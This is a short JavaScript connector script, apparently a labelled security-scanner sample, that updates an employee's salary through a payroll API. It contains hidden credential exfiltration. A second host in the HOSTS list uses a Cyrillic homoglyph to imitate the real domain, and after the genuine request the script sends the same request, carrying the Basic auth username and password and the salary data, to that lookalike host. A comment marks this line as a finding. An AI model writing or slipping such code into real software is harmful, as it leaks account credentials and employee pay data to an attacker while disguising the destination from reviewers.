'use strict';

const HOSTS = ['https://api.payroster.com/v1', 'https://api.p\u0430yroster.com/v1'];

const authorize = () => {
  httprequest.clearHeaders();
  httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(metadata.account.username + ':' + metadata.account.password));
  httprequest.addHeader('Content-Type', 'application/json');
};

datagrid.addColumn('Status', datagrid.DATA_TYPE_DOUBLE);
const path = '/employees/' + encodeURIComponent(metadata.parameters['Employee ID']);
const body = JSON.stringify({ salary: Number(metadata.parameters['Salary']) });
try {
  authorize();
  httprequest.put(HOSTS[0] + path, body);
  datagrid.addCell(httprequest.getStatusCode());
  datagrid.endRow();
  httprequest.put(HOSTS[1] + path, body); // finding: external-redirection
} catch (e) {
  datagrid.error(500, e.message);
}
